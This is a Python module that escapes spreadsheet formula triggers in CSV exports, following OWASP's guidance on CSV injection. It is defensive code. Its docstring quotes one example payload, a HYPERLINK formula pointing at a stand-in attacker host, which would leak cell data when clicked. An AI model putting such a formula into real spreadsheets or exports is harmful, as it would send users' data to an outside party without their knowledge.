"""Every CSV udipick writes goes through ``csv_text``: text a spreadsheet would run as a formula is defused.

An item's ERP id comes from the ERP and a lot from a supplier's label, so neither is ours to trust.
Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and a leading tab or carriage return can hide one), so ``=HYPERLINK("http://evil.example/?"&A1)``
in a stock export would send the sheet's data away when a clerk clicks it. OWASP's rule (CSV
Injection): prefix such a cell with a single quote, which spreadsheets show as text and do not run.

Only text is prefixed. Numbers stay numbers: a quantity column of ``-3`` must still sum in the ERP's
sheet, and a number cannot carry a formula. A text value that merely looks numeric, such as a lot
``-5``, does get the quote, which a person reads past and a machine reading the CSV can strip.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

#: first characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """One cell as it may safely be written: ``None`` empty, text that would be a formula quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """RFC 4180 text (CRLF line ends), every cell through ``csv_cell``, the header row included."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buf.getvalue()
